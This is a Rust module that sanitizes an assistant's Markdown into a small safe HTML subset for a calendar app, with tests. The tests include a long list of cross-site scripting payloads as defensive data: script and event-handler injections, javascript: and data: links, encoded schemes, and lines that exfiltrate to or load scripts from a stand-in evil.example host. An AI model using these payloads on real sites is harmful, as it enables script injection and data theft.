//! The Markdown of the assistant's messages as HTML: a small subset, and nothing in it that could act or
//! fetch. Pure.
//!
//! What the assistant says may hold words of strangers (titles, notes, mails, whatever a model made of
//! them). So raw HTML is text, an image is its description, and a link leads to a page of this Calento or
//! is no link: nothing on the page is asked for from elsewhere, and nothing can be sent there by a click.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};
use url::Url;

/// As HTML, safe to stand in a page.
pub fn html(markdown: &str) -> String {
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, Subset::of(markdown));
    out
}

/// A text that people wrote, so that it stands in Markdown as it is.
pub fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.split_whitespace().collect::<Vec<_>>().join(" ").chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// What is let through of a text, in the parser's own terms.
struct Subset<'a> {
    events: Parser<'a>,
    /// For each link that is open, what is said behind it: where it would have led, if that is no page
    /// of ours.
    links: Vec<Link<'a>>,
    /// What comes before the next event of the parser.
    next: Option<Event<'a>>,
    in_code: bool,
}

enum Link<'a> {
    /// To a page of ours.
    Own,
    /// Only its words, and the address as text behind them.
    Elsewhere(CowStr<'a>),
    /// Only its words.
    Image,
}

impl<'a> Subset<'a> {
    fn of(markdown: &'a str) -> Self {
        let events = Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH);
        Self { events, links: Vec::new(), next: None, in_code: false }
    }
}

impl<'a> Iterator for Subset<'a> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        if let Some(event) = self.next.take() {
            return Some(event);
        }
        loop {
            let event = self.events.next()?;
            return Some(match event {
                Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
                Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
                Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
                // The page has headings of its own; one in a message is a line in bold type.
                Event::Start(Tag::Heading { .. }) => {
                    self.next = Some(Event::Start(Tag::Strong));
                    Event::Start(Tag::Paragraph)
                }
                Event::End(TagEnd::Heading(_)) => {
                    self.next = Some(Event::End(TagEnd::Paragraph));
                    Event::End(TagEnd::Strong)
                }
                // The name of a language would become a class.
                Event::Start(Tag::CodeBlock(_)) => {
                    self.in_code = true;
                    Event::Start(Tag::CodeBlock(pulldown_cmark::CodeBlockKind::Indented))
                }
                Event::End(TagEnd::CodeBlock) => {
                    self.in_code = false;
                    Event::End(TagEnd::CodeBlock)
                }
                Event::Start(Tag::Link { link_type, dest_url, id, .. }) => {
                    if !is_own(&dest_url) {
                        self.links.push(Link::Elsewhere(dest_url));
                        continue;
                    }
                    self.links.push(Link::Own);
                    Event::Start(Tag::Link { link_type, dest_url, title: "".into(), id })
                }
                Event::Start(Tag::Image { .. }) => {
                    self.links.push(Link::Image);
                    continue;
                }
                Event::End(TagEnd::Link | TagEnd::Image) => match self.links.pop() {
                    Some(Link::Own) => Event::End(TagEnd::Link),
                    Some(Link::Elsewhere(address)) if !address.is_empty() => {
                        Event::Text(format!(" ({address})").into())
                    }
                    _ => continue,
                },
                // Lines are lines, as in every chat.
                Event::SoftBreak if !self.in_code => Event::HardBreak,
                Event::Start(
                    Tag::Paragraph
                    | Tag::BlockQuote(_)
                    | Tag::List(_)
                    | Tag::Item
                    | Tag::Emphasis
                    | Tag::Strong
                    | Tag::Strikethrough,
                )
                | Event::End(
                    TagEnd::Paragraph
                    | TagEnd::BlockQuote(_)
                    | TagEnd::List(_)
                    | TagEnd::Item
                    | TagEnd::Emphasis
                    | TagEnd::Strong
                    | TagEnd::Strikethrough,
                )
                | Event::Text(_)
                | Event::Code(_)
                | Event::SoftBreak
                | Event::HardBreak
                | Event::Rule => event,
                // Nothing else is switched on.
                _ => continue,
            });
        }
    }
}

/// Whether an address is that of a page of this Calento: a path, whatever browsers make of it.
fn is_own(address: &str) -> bool {
    let plain = |c: char| !c.is_control() && !c.is_whitespace() && c != '\\';
    if !address.starts_with('/') || !address.chars().all(plain) {
        return false;
    }
    let Ok(here) = Url::parse("https://calento.invalid/") else { return false };
    here.join(address).is_ok_and(|there| there.origin() == here.origin())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_people_use_in_a_chat_is_drawn() {
        assert_eq!(
            html("**Dentist** moved.\nSee [the day](/calendar/day/2026-03-03)."),
            "<p><strong>Dentist</strong> moved.<br />\nSee <a href=\"/calendar/day/2026-03-03\">the day</a>.</p>\n"
        );
        assert_eq!(html("- a\n- *b*"), "<ul>\n<li>a</li>\n<li><em>b</em></li>\n</ul>\n");
        assert_eq!(html("# Big"), "<p><strong>Big</strong></p>\n");
        assert_eq!(html("```sh\na < b\n```"), "<pre><code>a &lt; b\n</code></pre>\n");
    }

    #[test]
    fn what_people_wrote_stands_as_it_is() {
        for text in ["*a* _b_ `c` [x](/y) <b> & 1. # - > ~~d~~ \\ | $", "1. họp – 3*4=12", "![x](//y)"] {
            let shown = html(&escaped(text)).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
            assert_eq!(shown, format!("<p>{text}</p>\n"));
        }
        assert_eq!(escaped("a\n\n# b"), "a \\# b");
    }

    #[test]
    fn html_is_text_and_images_are_words() {
        assert_eq!(html("<b onclick=x>hi</b>"), "<p>&lt;b onclick=x&gt;hi&lt;/b&gt;</p>\n");
        assert_eq!(html("![a cat](https://evil.example/?q=1)"), "<p>a cat</p>\n");
        assert_eq!(html("[free](https://evil.example/x)"), "<p>free (https://evil.example/x)</p>\n");
        assert_eq!(html("[![x](/a.png)](//evil.example)"), "<p>x (//evil.example)</p>\n");
    }

    #[test]
    fn only_a_path_of_this_site_is_a_link() {
        for own in ["/calendar/day/2026-03-03", "/events/1?a=b#c", "/"] {
            assert!(is_own(own), "{own}");
        }
        for other in [
            "",
            "//evil.example",
            "/\\evil.example",
            "\\/evil.example",
            "https://evil.example",
            "javascript:alert(1)",
            "calendar",
            "#x",
            "?q=1",
            "data:text/html,x",
            "/\t/evil.example",
            "/\n/evil.example",
            "mailto:a@b.c",
        ] {
            assert!(!is_own(other), "{other}");
        }
    }

    /// Attempts to get something into the page that acts, as they are passed around, and some of our own.
    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/pixel.gif?d=secret'>",
        "<svg/onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<form action=https://evil.example><button>Apply</button></form>",
        "<button hx-post=\"/assistant/x/calls/y/apply\">Apply</button>",
        "<div hx-get=\"https://evil.example\" hx-trigger=\"load\"></div>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<style>body{background:url(https://evil.example)}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=https://evil.example>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](  javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](\\\\evil.example)",
        "[x](https://evil.example/?q=secret)",
        "<https://evil.example>",
        "<javascript:alert(1)>",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[x][y]\n\n[y]: https://evil.example \"t\"",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/?q=secret)",
        "![x][y]\n\n[y]: https://evil.example/p.png",
        "![x](/dev/mailbox \"onerror=alert(1)\")",
        "[x](/a \"\\\" onmouseover=alert(1) x=\\\"\")",
        "[x](/a\" onmouseover=\"alert(1))",
        "[x](</a\" onmouseover=\"alert(1)>)",
        "[<img src=x onerror=alert(1)>](/a)",
        "`<script>alert(1)</script>`",
        "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "    </code></pre><script>alert(1)</script>",
        "<!-- --><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=1?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "</div></article></main><script>alert(1)</script>",
        "| a | <script>alert(1)</script> |\n|---|---|\n| b | c |",
        "# <img src=x onerror=alert(1)>",
        "> <img src=x onerror=alert(1)>",
        "* <img src=x onerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\u{ff1c}script\u{ff1e}alert(1)",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "a[x](/a){onclick=alert(1)}",
        "[^1]: <script>alert(1)</script>\n\n[^1]",
        "- [ ] <img src=x onerror=alert(1)>",
        "$$\\href{javascript:alert(1)}{x}$$",
    ];

    #[test]
    fn nothing_that_is_written_acts_or_leads_away() {
        // The tags that can come out; none of them has an attribute but a link's path and a list's number.
        const TAGS: [&str; 13] =
            ["p", "br", "strong", "em", "del", "ul", "ol", "li", "blockquote", "pre", "code", "a", "hr"];
        for attack in ATTACKS {
            for nested in [(*attack).to_owned(), format!("**{attack}**"), format!("> - {attack}\n\n{attack}")]
            {
                let out = html(&nested);
                for (at, _) in out.match_indices('<') {
                    let tag = &out[at + 1..at + out[at..].find('>').expect("a tag has an end")];
                    let name: String =
                        tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
                    assert!(TAGS.contains(&name.as_str()), "{nested:?} made {out:?}");
                    let rest = tag.trim_start_matches('/')[name.len()..].trim_end_matches('/').trim();
                    let link = rest.strip_prefix("href=\"").and_then(|rest| rest.strip_suffix('"'));
                    let is_own_link =
                        name == "a" && link.is_some_and(|path| is_own(path) && !path.contains('"'));
                    let is_number = name == "ol" && rest.starts_with("start=\"");
                    assert!(rest.is_empty() || is_own_link || is_number, "{nested:?} made {out:?}");
                }
            }
        }
    }

    #[test]
    fn deep_nests_and_long_texts_come_to_an_end() {
        for piece in ["> ", "- ", "[", "![", "*", "`", "<"] {
            assert!(html(&piece.repeat(5_000)).len() < 4_000_000, "{piece}");
        }
    }
}
